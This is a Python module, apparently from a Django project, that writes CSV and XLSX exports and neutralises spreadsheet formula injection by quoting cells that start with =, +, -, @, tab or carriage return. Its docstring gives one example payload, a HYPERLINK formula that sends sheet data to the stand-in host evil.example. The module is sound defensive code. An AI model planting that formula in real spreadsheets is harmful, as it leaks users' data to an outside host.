"""CSV and XLSX for every export, web and command line: rows in, text, bytes or a response out.

Every cell passes through one rule, OWASP's "CSV injection" neutralisation: text that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is one a spreadsheet would run as a formula
(``=HYPERLINK("http://evil.example/?"&A1,"x")`` sends the sheet's data away when clicked). Trust
names, regions, websites and rationales come from the register, the ODS file, the admin and trust
websites, so any of them may start that way.

- CSV: such a text cell gets a leading single quote (``'=HYPERLINK(...)``), which spreadsheets show
  as text; the csv module quotes the cell as needed, so no separator can start a new cell.
- XLSX: every text cell is written as a string (``data_type "s"``), never a formula, with its text
  unchanged; a formula-leading one also carries Excel's quote prefix so that editing it keeps it text.
  Characters XML cannot hold (control characters) become U+FFFD instead of failing the export.
- Numbers, booleans and dates stay what they are: a spreadsheet reads ``-1`` as minus one, not as a
  formula, and sums it. Anything else (a lazy string, a model) is written as its text.

Home: ``config/``, the project package, because trusts, audits and reports may all import it without
breaking their layering (trusts ← audits ← reports): it imports no app and holds no models.
"""

import csv
import datetime
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import TextIO

from django.http import HttpResponse
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

__all__ = [
    "CSV_CONTENT_TYPE",
    "FORMULA_LEADERS",
    "XLSX_CONTENT_TYPE",
    "csv_response",
    "csv_text",
    "neutralise",
    "write_csv",
    "xlsx_bytes",
    "xlsx_response",
]

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_LEADERS = ("=", "+", "-", "@", "\t", "\r")
_KEPT_TYPES = (bool, int, float, Decimal, datetime.date, datetime.time, datetime.timedelta)

Row = Sequence[object]


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value[:1] in FORMULA_LEADERS


def neutralise(value: object) -> object:
    """A CSV cell's value: formula-leading text gets a leading quote; numbers and dates are kept."""
    if value is None or isinstance(value, _KEPT_TYPES):
        return value
    text = str(value)
    return f"'{text}" if is_formula_like(text) else text


def write_csv(rows: Iterable[Row], out: TextIO | HttpResponse, header: Row | None = None) -> int:
    """Write the header (if any) and the rows to `out` (a file, stdout or an HttpResponse); returns the row count."""
    writer = csv.writer(out)
    if header is not None:
        writer.writerow([neutralise(value) for value in header])
    count = 0
    for row in rows:
        writer.writerow([neutralise(value) for value in row])
        count += 1
    return count


def csv_text(rows: Iterable[Row], header: Row | None = None) -> str:
    out = io.StringIO()
    write_csv(rows, out, header)
    return out.getvalue()


def xlsx_bytes(rows: Iterable[Row], header: Row | None = None, title: str = "Sheet") -> bytes:
    """One sheet; with a header, it is bold, frozen and carries an autofilter over the rows."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title)
    width = 0
    count = 0
    if header is not None:
        sheet.freeze_panes = "A2"
        cells = [_xlsx_cell(sheet, value) for value in header]
        for cell in cells:
            cell.font = Font(bold=True)
        sheet.append(cells)
        width = len(cells)
        count = 1
    for row in rows:
        cells = [_xlsx_cell(sheet, value) for value in row]
        sheet.append(cells)
        width = max(width, len(cells))
        count += 1
    if header is not None and width:
        sheet.auto_filter.ref = f"A1:{get_column_letter(width)}{count}"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def csv_response(rows: Iterable[Row], filename: str, header: Row | None = None) -> HttpResponse:
    response = _attachment(CSV_CONTENT_TYPE, filename)
    write_csv(rows, response, header)
    return response


def xlsx_response(rows: Iterable[Row], filename: str, header: Row | None = None, title: str = "Sheet") -> HttpResponse:
    response = _attachment(XLSX_CONTENT_TYPE, filename)
    response.write(xlsx_bytes(rows, header, title))
    return response


def _attachment(content_type: str, filename: str) -> HttpResponse:
    response = HttpResponse(content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def _xlsx_cell(sheet, value: object) -> WriteOnlyCell:
    if isinstance(value, datetime.datetime) and value.tzinfo is not None:
        value = timezone.localtime(value).replace(tzinfo=None)  # Excel has no time zones
    if value is None or isinstance(value, _KEPT_TYPES):
        return WriteOnlyCell(sheet, value=value)
    text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", str(value))
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"  # openpyxl would store a text starting with "=" as a formula
    if is_formula_like(text):
        cell.quotePrefix = True
    return cell
